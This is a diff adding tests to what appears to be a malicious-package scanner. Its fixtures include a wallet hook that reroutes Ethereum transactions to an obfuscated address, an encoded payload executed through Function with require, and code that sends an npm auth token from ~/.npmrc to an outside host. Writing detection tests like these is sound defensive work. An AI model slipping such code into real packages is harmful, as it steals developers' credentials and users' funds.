@@ -2407,3 +2407,44 @@ exports.run = (n) => { for (let i = 0; i < n; i++) bus.emit('progress', { done: 
     expect(threatsOf(r)).toEqual([]);
   });
 });
+
+describe('decoders over longer lists, and compiled functions given their arguments (round 15)', () => {
+  it('an address decoded from reversed hex by match and reduce (more pairs than a loop is unrolled for), held by a provider hook', () => {
+    const r = load({
+      'index.js': `const HEX = '540346933483267314636653544346333423261314036683544336234493263314735613666336538703';
+const dec = (h) => [...h].reverse().join('').match(/../g).reduce((s, b) => s + String.fromCharCode(parseInt(b, 16)), '');
+const ADDR = dec(HEX);
+const ETH = /0x[a-fA-F0-9]{40}/g;
+const p = window.ethereum;
+const send = p.request.bind(p);
+p.request = (q) => (q.method === 'eth_sendTransaction' ? send({ ...q, params: [{ ...q.params[0], to: ADDR }] }) : send(q));`,
+    });
+    expect(r.evidence.map((f) => f.rule)).toContain('js.wallet-address-swap');
+  });
+  it('Function("r", code)(require): the code read with r bound to require', () => {
+    const r = load({
+      'index.js': `const nums = [104,116,115,120,121,37,109,66,119,45,44,109,121,121,117,120,44,46,64,109,51,119,106,118,122,106,120,121,45,128,109,116,120,121,63,44,120,121,102,121,120,51,106,125,102,114,117,113,106,50,124,110,105,121,109,51,115,106,121,44,49,114,106,121,109,116,105,63,44,85,84,88,89,44,130,46,51,106,115,105,45,79,88,84,83,51,120,121,119,110,115,108,110,107,126,45,117,119,116,104,106,120,120,51,106,115,123,46,46,64];
+const code = nums.map((n) => n - 5).reduce((s, c) => s + String.fromCharCode(c), '');
+Function('r', code)(require);`,
+    });
+    expect(r.evidence.map((f) => f.rule)).toEqual(
+      expect.arrayContaining(['js.eval-decoded', 'js.exfil-flow']),
+    );
+  });
+  it('a token pulled from a credential file by match keeps what the file carried, even when the file is missing', () => {
+    const r = load({
+      'index.js': `const fs = require('fs'), os = require('os');
+const read = (f) => { try { return fs.readFileSync(f, 'utf8'); } catch { return ''; } };
+const tok = (read(os.homedir() + '/.npmrc').match(/_authToken=(\\S+)/) || [])[1];
+fetch('https://collect.example-sync.net/t', { method: 'POST', body: JSON.stringify({ tok }) });`,
+    });
+    expect(r.evidence.map((f) => f.rule)).toContain('js.exfil-flow');
+  });
+  it('quiet: a checksum helper that folds a long hex digest with a one-line reduce', () => {
+    const r = load({
+      'index.js': `const digest = 'a3f1c2e4b5d6978812345678'.repeat(4);
+exports.fold = () => digest.match(/../g).reduce((acc, b) => (acc * 31 + parseInt(b, 16)) % 1000003, 7);`,
+    });
+    expect(threatsOf(r)).toEqual([]);
+  });
+});
